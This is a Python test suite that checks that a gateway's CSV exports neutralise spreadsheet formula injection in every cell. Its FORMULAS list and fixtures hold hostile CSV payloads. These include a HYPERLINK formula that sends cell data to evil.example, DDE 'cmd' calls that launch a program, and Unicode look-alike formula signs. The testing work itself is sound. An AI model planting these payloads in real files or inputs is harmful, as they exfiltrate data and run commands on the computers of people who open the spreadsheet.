"""CSV formula injection in every CSV export, with every spelling of a formula.

tests/audit/test_cli.py exports formulas in every column through ``govgate audit query``
and ``stats``; tests/portal/test_audit_console.py a formula reason through the auditor
console; tests/catalogue/test_cli.py formulas in every column of ``govgate catalogue
export``. Here the spellings a check on the first character misses (white space first,
a full-width or small ＝, a line break, apostrophes before it), a formula typed as a
sign-in name (it becomes an audit record's user), and the exports not covered there:
the audit API's. Every cell of every export is read as a spreadsheet reads it; the
apostrophe that makes it text comes off again on import (``restore``)."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from audit import AuditRecord
from audit.spreadsheet import neutralise, restore
from gateway.cli.main import cli
from tests.hostile.conftest import IdpWorld
from tests.oauth2.helpers import login
from tests.tokens import access_token

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u3000=1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1:A2)", "﹦1+1",
    "'=1+1", "''=1+1", "' =1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1\n=2+2",
]


def spreadsheet_runs(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` for a formula: it starts with a sign, a
    tab or a carriage return (OWASP's list), or, after white space it skips, with a
    sign in any compatibility form. A cell that starts with an apostrophe is text."""
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return True
    first = cell.lstrip()[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in "=+-@"


@pytest.mark.parametrize("formula", FORMULAS)
def test_neutralise_makes_text_of_every_spelling_and_restore_undoes_it(formula: str) -> None:
    cell = neutralise(formula)
    assert not spreadsheet_runs(cell), repr(cell)
    assert restore(cell) == formula


@pytest.fixture(scope="module")
def formulas(idp_world: IdpWorld) -> IdpWorld:
    """Audit records holding the formulas, in the reason, purpose and ``extra`` written
    here, and as the user of the sign-ins attempted with them as the name."""
    services = idp_world.services
    services.org.change_password("auditor", "Brand-New-Passw0rd-2026!")
    services.audit.append_many_sync([AuditRecord(
        event_type="hostile_formula", outcome="failure", reason=f, purpose=f,
        extra={"note": f}) for f in FORMULAS])
    for n, f in enumerate(("=cmd|' /C calc'!A0", "＝1+1", " @SUM(A1)")):
        login(idp_world.fresh(f"198.51.100.{200 + n}"), username=f, password="wrong-123")
    return idp_world


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_inert(rows: list[list[str]], where: str) -> None:
    bad = [cell for row in rows for cell in row if spreadsheet_runs(cell)]
    assert not bad, (where, bad[:5])


def test_every_audit_export_is_inert(formulas: IdpWorld) -> None:
    services = formulas.services
    client = TestClient(formulas.client.app, base_url="http://127.0.0.1:8080")
    bearer = {"Authorization": "Bearer " + access_token(
        services, sub="auditor", department="platform", roles=("auditor",))}
    console = formulas.signed_in("auditor")
    exports = {
        "the API": client.get("/api/v1/audit/export", params={"format": "csv"},
                              headers=bearer).text,
        "the auditor console": console.get("/portal/audit/export",
                                           params={"format": "csv"}).text,
        "govgate audit query": CliRunner().invoke(cli, [
            "audit", "query", "--format", "csv", "--all"], env=cli_env(formulas),
            catch_exceptions=False).output,
    }
    for where, text in exports.items():
        rows = cells(text)
        assert_inert(rows, where)
        header = rows[0]
        reasons = {restore(row[header.index("reason")]) for row in rows[1:]}
        assert set(FORMULAS) <= reasons, (where, set(FORMULAS) - reasons)
        users = {restore(row[header.index("actor_user")]) for row in rows[1:]}
        assert "=cmd|' /c calc'!a0" in users, where  # a sign-in name, as it was meant


def test_the_catalogue_export_is_inert_and_reimports_unchanged(formulas: IdpWorld) -> None:
    formulas.built.state_applier().apply({"catalogue": [{
        "code": "JG-0777", "name": " =1+1 名称", "summary": "＝HYPERLINK(\"http://evil.example\")",
        "provider": "jgswj", "system": "vehicles", "share_type": "unconditional",
        "conditions": "\u3000@SUM(A1)", "basis": "－1+1", "status": "draft",
        "route": {"method": "GET", "path": "/api/formulas", "records": "items"},
        "items": [{"name": "x", "title": " +1 标题"}]}]})
    exported = CliRunner().invoke(cli, ["catalogue", "export", "--format", "csv"],
                                  env=cli_env(formulas), catch_exceptions=False).output
    rows = cells(exported)
    assert_inert(rows, "govgate catalogue export")
    header = rows[0]
    mine = [row for row in rows if row[header.index("code")] == "JG-0777"]
    assert restore(mine[0][header.index("summary")]) == "＝HYPERLINK(\"http://evil.example\")"
    assert restore(mine[0][header.index("basis")]) == "－1+1"


def cli_env(world: IdpWorld) -> dict[str, str]:
    settings = world.services.settings
    return {"GOVGATE_HOME": str(settings.home), "GOVGATE_DATABASE_URL": settings.database_url,
            "LANG": "C.UTF-8"}
